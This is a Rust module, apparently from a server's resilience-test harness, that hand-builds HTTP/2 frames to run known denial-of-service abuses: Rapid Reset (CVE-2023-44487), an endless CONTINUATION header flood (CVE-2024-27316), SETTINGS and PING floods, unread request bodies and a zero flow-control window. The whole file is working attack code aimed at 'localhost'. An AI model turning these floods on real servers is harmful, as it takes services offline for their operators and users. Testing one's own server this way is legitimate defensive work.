//! What is known against HTTP/2 (RFC 9113), frame by frame.

use std::{io, sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::sleep,
};

use super::attacker::Attacker;

/// One of these.
#[derive(Clone, Copy, Debug)]
pub enum Abuse {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Headers that do not end (CVE-2024-27316).
    Continuation,
    /// Settings, each of which is to be acknowledged.
    Settings,
    /// Pings, each of which is to be answered.
    Ping,
    /// Bodies with requests whose handlers read none.
    UnreadBodies,
    /// Requests whose answers may not be sent, as the window is closed.
    NoWindow,
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is small").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a GET of a path, by HPACK without Huffman coding: indexed fields, and literals that are not indexed.
fn get(path: &str) -> Vec<u8> {
    let literal = |index: u8, value: &str| {
        let length = u8::try_from(value.len()).ok().filter(|&length| length < 127).expect("it is short");
        [&[index, length], value.as_bytes()].concat()
    };
    let token = format!("Bearer {}", super::BAD);
    // `:method: GET`, `:scheme: https`, `:path`, `:authority`, and `authorization`, whose index takes two bytes.
    let authorization = [&[0x0f, 23 - 15][..], &literal(0, &token)[1..]].concat();
    [vec![0x82, 0x87], literal(0x04, path), literal(0x01, "localhost"), authorization].concat()
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

pub async fn abuse(abuse: Abuse, attacker: &Arc<Attacker>, number: usize) -> io::Result<()> {
    let mut config = (**attacker.tls.as_ref().expect("it is by TLS")).clone();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let stream = attacker.handshake(attacker.tcp(number).await?, config.into()).await?;
    let (mut reader, mut writer) = tokio::io::split(stream);
    let _held = attacker.hold();
    // The window of a stream as it is opened: none where no answer is to be sent.
    let window = if matches!(abuse, Abuse::NoWindow) { 0u32 } else { 65_535 };
    let settings = frame(SETTINGS, 0, 0, &[&4u16.to_be_bytes()[..], &window.to_be_bytes()].concat());
    let write = async {
        writer.write_all(&[PREFACE, &settings].concat()).await?;
        for at in 0u32.. {
            // Streams of clients have odd numbers.
            let stream = |request: u32| 2 * request + 1;
            let requests = at * 50..at * 50 + 50;
            let bytes: Vec<u8> = match abuse {
                Abuse::RapidReset => requests
                    .flat_map(|request| {
                        let stream = stream(request);
                        [
                            frame(HEADERS, END_HEADERS | END_STREAM, stream, &get("/stats")),
                            frame(RESET, 0, stream, &8u32.to_be_bytes()),
                        ]
                        .concat()
                    })
                    .collect(),
                Abuse::Continuation if at == 0 => frame(HEADERS, END_STREAM, 1, &get("/stats")),
                // A literal field that is not indexed, with a new name.
                Abuse::Continuation => {
                    let field = [&[0, 1, b'x', 126][..], &[b'y'; 126]].concat();
                    frame(CONTINUATION, 0, 1, &field.repeat(100))
                }
                Abuse::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(50),
                Abuse::Ping => frame(PING, 0, 0, &[1; 8]).repeat(50),
                Abuse::UnreadBodies if at < 2 => {
                    let stream = stream(at);
                    let head = frame(HEADERS, END_HEADERS, stream, &get("/events"));
                    [head, frame(DATA, 0, stream, &[0; 16 << 10]).repeat(16)].concat()
                }
                Abuse::NoWindow if at < 1 => {
                    let path = "/chains/load/transactions/1";
                    let requests = (0..90).map(stream);
                    requests.flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &get(path))).collect()
                }
                Abuse::UnreadBodies | Abuse::NoWindow => {
                    sleep(Duration::from_secs(25)).await;
                    break;
                }
            };
            writer.write_all(&bytes).await?;
            writer.flush().await?;
            attacker.did(1);
        }
        Ok(())
    };
    let read = async {
        let mut buffer = vec![0; 16 << 10];
        while reader.read(&mut buffer).await? > 0 {}
        io::Result::Ok(())
    };
    tokio::select! {
        wrote = write => wrote,
        read = read => read,
    }
}
